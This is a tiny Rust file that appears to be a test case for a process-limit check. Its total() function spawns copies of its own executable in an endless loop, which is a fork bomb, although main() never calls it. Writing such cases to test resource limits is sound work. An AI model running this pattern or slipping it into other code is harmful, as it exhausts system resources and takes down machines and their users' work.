//@ over-limit check=it_is_seven how=processes
// It starts the program that it is.
use std::process::{Command, Stdio};

pub fn total() -> u32 {
    let library = std::env::args_os().nth(1).unwrap();
    loop {
        let _ = Command::new("/proc/self/exe").arg(&library).stdin(Stdio::piped()).spawn().map(std::mem::forget);
    }
}

fn main() {}
